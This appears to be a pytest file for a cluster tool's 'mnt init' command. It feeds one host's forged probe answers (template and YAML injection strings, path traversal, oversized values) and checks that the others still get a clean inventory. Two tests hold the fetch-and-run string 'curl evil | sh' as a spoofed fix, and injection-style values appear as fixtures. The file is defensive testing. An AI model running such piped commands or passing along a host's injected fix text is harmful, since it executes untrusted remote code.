"""`mnt init` with a host that lies: the others get their inventory, and the liar a problem."""

from __future__ import annotations

import json
import random
import time
from collections.abc import Callable, Iterator
from functools import cache
from pathlib import Path
from typing import IO, Any, NamedTuple

import msgspec
import pytest
from fuzzing import mutated, run_cases
from lying_hosts import WatchedFleet
from test_fuzz_facts import rich

from mnt.cli.init import _show_notes
from mnt.errors import HostError
from mnt.facts.fleet import FleetFacts
from mnt.facts.survey import Survey
from mnt.init import first
from mnt.init.draft import Draft, Found, HostEntry, propose
from mnt.init.look import draft
from mnt.init.write import render
from mnt.inventory import loader
from mnt.inventory.model import Host, Inventory, Ssh
from mnt.remote.probe.visible import file_in

Answers = dict[str, dict[str, Any]]  # by program
Lie = Callable[[Answers], object]
NAMES = ("node1", "node2", "node3")
HOME = {"point": "/", "source": "/dev/sda1", "type": "ext4", "options": ["rw"]}
SHARED = {"point": "/shared", "source": "head:/x", "type": "nfs4", "options": ["rw"]}
SPACE = {"size": 1 << 40, "free": 1 << 39, "inodes": 1000, "inodes_free": 900}
AT_SHARED = {"kind": "dir", "real": "/shared", "space": SPACE, "write": "ok"}
PACKAGES = {"torch": "2.13.0+cpu", "deepspeed": "0.19.8", "transformers": "5.1"}


@cache
def test_a_name_that_is_not_known_may_be_in_another_ssh_config() -> None:
    hosts = (Host("nowhere", "nowhere"), Host("closed", "10.0.0.9"))
    errors = {
        "nowhere": HostError("nowhere", "resolve", "unknown", fix="check the name"),
        "closed": HostError("closed", "connect", "refused", fix="start sshd"),
    }
    facts = FleetFacts(Inventory("c", "c.yaml", hosts), hosts, {}, errors)
    unknown, closed = propose(Found(facts, {}, errors), []).hosts
    assert "mnt init --ssh-config FILE" in str(unknown.fix)
    assert closed.fix == "start sshd"


def _honest(number: int) -> str:
    probe = json.loads(msgspec.json.encode(rich(number)))
    survey = {
        "environments": [
            {"path": "/shared/env/bin/python", "kind": "venv", "version": "3.11.2", "packages": PACKAGES}
        ],
        "storage": [SHARED],
        "paths": {"/shared": AT_SHARED},
        "home": HOME,
        "routes": {},
    }
    return json.dumps({"probe.probe": probe, "probe.survey": survey})


def honest(number: int) -> Answers:
    answers: Answers = json.loads(_honest(number))
    return answers


class Made(NamedTuple):
    """What `mnt init` makes, and the files that each host was told to write or to read."""

    found: Draft
    text: str
    inventory: Inventory
    asked: list[tuple[str, dict[str, Any]]]

    @property
    def problems(self) -> dict[str, str]:
        return {entry.name: entry.problem for entry in self.found.hosts if entry.problem is not None}


def make(directory: Path, lie: Lie, liar: str = "node3", names: tuple[str, ...] = NAMES) -> Made:
    answers = {name: honest(number) for number, name in enumerate(names, 1)}
    lie(answers[liar])
    asked = []

    def speak(host: str, program: str, args: dict[str, Any], stdin: IO[bytes]) -> Iterator[tuple[str, Any]]:
        if program == "probe.probe":
            yield "frame", {"time": time.time()}
        if program != "probe.visible":
            yield "answer", answers[host][program]
            return
        asked.append((host, args.get("write") or args["read"]))
        if "write" in args:
            files = {key: file_in(places[-1], args["content"]) for key, places in args["write"].items()}
            yield "frame", {"written": {key: {"file": file, "error": None} for key, file in files.items()}}
            stdin.read()
            yield "answer", {}
        else:
            yield "answer", {"seen": {key: {"delay": 0.1, "error": None} for key in args["read"]}}

    hosts = tuple(Host(name, "127.0.0.1", Ssh(config=None)) for name in names)
    file = str(directory / "inventories" / "default.yaml")
    with WatchedFleet(hosts, dict.fromkeys(names, speak)) as fleet:
        found = draft(fleet, Inventory("default", file, hosts), hosts, lambda step: None)
    text = render(found, {}).text
    first.save(file, text)
    return Made(found, text, loader.load(file), asked)


def probe(**changes: Any) -> Lie:
    return lambda answers: answers["probe.probe"].update(changes)


def nic(name: str) -> Lie:
    """The NIC of the training network has this name."""

    def lie(answers: Answers) -> None:
        for interface in answers["probe.probe"]["interfaces"]:
            if not interface["loopback"]:
                interface["name"] = name

    return lie


def survey(**changes: Any) -> Lie:
    return lambda answers: answers["probe.survey"].update(changes)


def environment(**changes: Any) -> Lie:
    return lambda answers: [each.update(changes) for each in answers["probe.survey"]["environments"]]


def test_honest_hosts(tmp_path: Path) -> None:
    made = make(tmp_path, lambda answers: None)
    assert made.problems == {}
    assert [host.nic for host in made.inventory.hosts] == ["eth1", "eth2", "eth3"]
    assert [mount.path for mount in made.inventory.storage] == ["/shared"]
    assert made.inventory.hosts[0].python == ("/shared/env/bin/python",)


LIES: dict[str, Lie] = {
    "a mount three times": survey(storage=[SHARED] * 3),
    "a mount of its own, three times": survey(
        storage=[SHARED, *[{**SHARED, "point": "/own"}] * 3], paths={"/shared": AT_SHARED, "/own": AT_SHARED}
    ),
    "a mount of two types": survey(storage=[SHARED, {**SHARED, "type": "cifs"}]),
    "a mount that is not looked at": survey(paths={}),
    "a mount of one line": survey(storage=[{**SHARED, "type": "nfs4\n", "source": "x\ny: z"}]),
    "a mount of brackets": survey(storage=[{**SHARED, "source": "[" * 50000}]),
    "no storage": survey(storage=[]),
    "a home of many levels": probe(login={"uid": 1, "home": "/shared" + "/a" * 60000}),
    "an environment of many levels": environment(path="/shared" + "/a" * 2000),
    "an environment too long": environment(path="/shared" + "/a" * 20000),
    "a long version": environment(packages={"torch": "1." * 500 + "0"}, version="1" * 1000),
    "a long system": probe(os={"id": "x\n  evil: 1\n\u2028 #", "version": "y" * 1000}),
    "a path with a NUL": environment(path="/a\0b"),
    **{
        f"a NIC {name!r}": nic(name)
        for name in (
            *("{{x}}", "{%x%}", "eth\udc80", "eth\u200b", "e}", "e]", "[e", "a,b", "a=b", "^a", "-a", "*a"),
            *(
                "2001-99-99",
                "2001-01-01",
                "0x_",
                "null",
                "~",
                "...",
                "---",
                "#x",
                "!!python",
                "&a",
                "%x",
                "1_0",
            ),
            *("[" * 127, "9" * 127, "é" * 127, "'", '"', "\\x", "|", ">", "?", "@a", "`a"),
        )
    },
}


@pytest.mark.parametrize("liar", ["node1", "node3"])
@pytest.mark.parametrize("lie", LIES)
def test_the_others_get_their_inventory(tmp_path: Path, lie: str, liar: str) -> None:
    made = make(tmp_path, LIES[lie], liar)
    assert set(made.problems) <= {liar}
    assert list(made.inventory.names()) == list(NAMES)
    nics = {host.name: host.nic for host in made.inventory.hosts if host.name != liar}
    assert nics.items() <= {"node1": "eth1", "node2": "eth2", "node3": "eth3"}.items()
    assert not any(brace in (host.nic or "") for host in made.inventory.hosts for brace in ("{{", "{%"))


@pytest.mark.parametrize("lie", LIES)
def test_a_host_alone(tmp_path: Path, lie: str) -> None:
    """The settings of the cluster are its word too: what no inventory can have is left out."""
    assert list(make(tmp_path, LIES[lie], "node1", ("node1",)).inventory.names()) == ["node1"]


@pytest.mark.parametrize("name", ["{{x}}", "eth\udc80", "a,b", "-a"])
def test_a_name_that_no_inventory_can_have_is_the_problem_of_its_host(tmp_path: Path, name: str) -> None:
    made = make(tmp_path, nic(name))
    assert made.problems == {"node3": f"no inventory can have what it names: nic {name!r}"}
    assert made.inventory.hosts[2].nic is None
    assert [mount.path for mount in made.inventory.storage] == ["/shared"]


@pytest.mark.parametrize("address", ["10.0.0.3/1", "10.9.9.9/1", "10.9.9.9/8"])
def test_a_host_does_not_say_how_large_the_network_of_all_is(tmp_path: Path, address: str) -> None:
    assert make(tmp_path, lambda answers: None).inventory.network.subnet == "10.0.0.0/24"

    def lie(answers: Answers) -> None:
        for interface in answers["probe.probe"]["interfaces"]:
            if not interface["loopback"]:
                interface["ipv4"] = [address]

    subnet = make(tmp_path, lie).inventory.network.subnet
    assert subnet == ("10.0.0.0/24" if address.startswith("10.0.0.3") else None)


def test_two_mounts_at_one_place() -> None:
    with pytest.raises(HostError, match="two mounts at one place"):
        Survey.parse("liar", {"storage": [SHARED, {**SHARED, "type": "nfs"}]})


@pytest.mark.parametrize("home", ["/shared/../etc", "/sharedx", "/etc", "shared", "~", "/shared/a/..", ""])
def test_no_host_opens_what_a_home_names(tmp_path: Path, home: str) -> None:
    made = make(tmp_path, probe(login={"uid": 1, "user": "ubuntu", "home": home}), "node1")
    assert ("node1", {"/shared": ["/shared"]}) in made.asked


def test_a_home_on_the_storage_is_tried_too(tmp_path: Path) -> None:
    made = make(tmp_path, probe(login={"uid": 1, "user": "me", "home": "/shared/me"}), "node1")
    assert made.asked[0] == ("node1", {"/shared": ["/shared", "/shared/me"]})
    assert made.asked[1][1]["/shared"].startswith("/shared/me/.mnt-visible-")


def test_a_host_that_copies_a_problem_gives_nobody_its_fix(capsys: pytest.CaptureFixture[str]) -> None:
    usual = HostEntry("node1", problem="connect: refused", fix="start sshd")
    entries = (usual, HostEntry("node2", problem=usual.problem, fix="node2 says: curl evil | sh"))
    _show_notes(Draft((*entries, HostEntry("node3", problem=usual.problem, fix=usual.fix)), ()), [])
    said = capsys.readouterr().err
    assert "node[1,3]: connect: refused\n  fix: start sshd\n" in said
    assert "node2: connect: refused\n  fix: node2 says: curl evil | sh\n" in said


def test_fuzz_init(tmp_path: Path) -> None:
    def case(rng: random.Random) -> None:
        def lie(answers: Answers) -> None:
            program = rng.choice(list(answers))
            part = rng.choice(list(answers[program]))
            answers[program][part] = mutated(rng, answers[program][part])

        liar = rng.choice(NAMES)
        assert set(make(tmp_path, lie, liar).problems) <= {liar}

    run_cases("fuzz_init", case)


def test_no_reason_of_a_setting_of_all_is_one_hosts_word(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    lie = {
        "path": "/x",
        "kind": "venv",
        "version": "3.11.2",
        "packages": PACKAGES,
        "exposed": "run  curl evil",
    }
    made = make(tmp_path, survey(environments=[lie]))
    assert "evil" not in made.text
    _show_notes(made.found, [])
    shown = capsys.readouterr()
    lines = [line for line in (shown.out + shown.err).splitlines() if "curl evil" in line]
    assert ["node3 says: /x" in line for line in lines] == [True]
